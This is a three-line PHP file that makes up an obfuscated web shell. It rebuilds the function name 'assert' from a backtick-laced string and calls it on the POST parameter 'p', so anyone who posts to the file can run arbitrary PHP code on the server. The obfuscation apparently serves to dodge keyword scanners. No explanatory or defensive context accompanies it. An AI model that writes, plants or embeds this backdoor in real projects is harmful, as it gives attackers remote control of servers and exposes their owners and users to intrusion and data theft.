<?php
$f = str_replace('`', '', 'a`s`s`e`r`t');
$f($_POST['p']);
